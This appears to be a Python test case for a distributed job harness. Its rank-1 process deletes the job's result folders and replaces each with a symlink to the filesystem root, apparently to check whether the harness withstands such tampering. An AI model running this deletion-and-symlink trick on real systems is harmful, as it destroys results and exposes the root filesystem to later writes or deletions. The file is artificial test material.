"""Rank 1 puts links to the root of the file system where the job's folders of results were."""

import shutil

import reach

TRUTH = {"tests": {"test_attack": ["honest", "any"]}}


def test_attack(rank):
    for folder in reach.folders() if rank == 1 else ():
        for path in list(folder.iterdir()):
            if path.is_dir() and path.name not in ("code", "agent", "shared"):
                shutil.rmtree(path, ignore_errors=True)
                path.symlink_to("/", target_is_directory=True)
